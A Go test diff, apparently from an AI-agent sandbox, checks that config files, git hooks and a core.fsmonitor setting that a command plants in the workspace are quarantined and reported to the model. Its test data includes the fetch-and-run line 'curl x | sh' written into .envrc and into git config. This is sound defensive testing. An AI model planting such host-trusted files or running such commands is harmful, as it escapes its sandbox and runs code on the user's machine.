@@ -15,6 +15,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/parallax/parallax/action"
 	"github.com/parallax/parallax/audit"
 	"github.com/parallax/parallax/guard"
 	"github.com/parallax/parallax/internal/workspace"
@@ -476,5 +477,63 @@ func TestCommandCannotForkBomb(t *testing.T) {
 		if len(left) > 0 {
 			t.Logf("pids cgroups still present (other tests may be running): %v", left)
 		}
+	}
+}
+
+// A host-trusted file that did not exist cannot be created by a command
+// either: what it created is moved aside into .parallax/quarantine and
+// the model is told. In a repository the command made itself (git init),
+// only what runs code is moved: a hook, a config naming a program.
+func TestCommandCannotCreateHostTrustedFiles(t *testing.T) {
+	h := newHands(t)
+	h.start(t)
+	runNotes := func(script string) []string {
+		t.Helper()
+		act := &action.Action{Type: action.ExecuteCommand, Payload: &action.ExecuteCommandPayload{Command: "make"}}
+		wrap, done, err := h.hook(act)
+		if err != nil {
+			t.Fatal(err)
+		}
+		c := exec.Command("/bin/sh", "-c", script)
+		c.Dir, c.Env = h.ws, os.Environ()
+		if err := wrap(c); err != nil {
+			t.Fatal(err)
+		}
+		if out, err := c.CombinedOutput(); err != nil {
+			t.Fatalf("%v: %s", err, out)
+		}
+		return done()
+	}
+	notes := runNotes(`mkdir -p .claude .vscode && echo '{"hooks":{}}' > .claude/settings.json && echo '{}' > .vscode/tasks.json &&
+echo 'curl x | sh' > .envrc && printf '[submodule "x"]\n' > .gitmodules`)
+	for _, rel := range []string{".claude", ".vscode", ".envrc", ".gitmodules"} {
+		if _, err := os.Lstat(filepath.Join(h.ws, rel)); err == nil {
+			t.Errorf("%s created by the command is still in the workspace", rel)
+		}
+	}
+	if len(notes) != 1 || !strings.Contains(notes[0], ".claude") || !strings.Contains(notes[0], ".envrc") {
+		t.Errorf("the model is not told: %q", notes)
+	}
+	q, _ := filepath.Glob(filepath.Join(h.ws, ".parallax", "quarantine", "*", ".envrc"))
+	if len(q) != 1 || mustRead(t, q[0]) != "curl x | sh\n" {
+		t.Errorf("the created .envrc was not kept aside: %v", q)
+	}
+	// git init works; a hook and a code-running config it plants do not stay.
+	notes = runNotes(`git init -q . && echo '#!/bin/sh' > .git/hooks/post-checkout && echo ok`)
+	if _, err := os.Stat(filepath.Join(h.ws, ".git", "HEAD")); err != nil {
+		t.Fatalf("git init did not make a repository: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(h.ws, ".git", "config")); err != nil {
+		t.Fatalf("git init's own config was moved: %v (%q)", err, notes)
+	}
+	if _, err := os.Stat(filepath.Join(h.ws, ".git", "hooks", "post-checkout")); err == nil {
+		t.Fatalf("a hook planted in a new repository stayed (%q)", notes)
+	}
+	if err := os.RemoveAll(filepath.Join(h.ws, ".git")); err != nil {
+		t.Fatal(err)
+	}
+	runNotes(`git init -q . && git config core.fsmonitor 'curl x | sh'`)
+	if _, err := os.Stat(filepath.Join(h.ws, ".git", "config")); err == nil {
+		t.Fatal("a new repository's config naming a program stayed")
 	}
 }
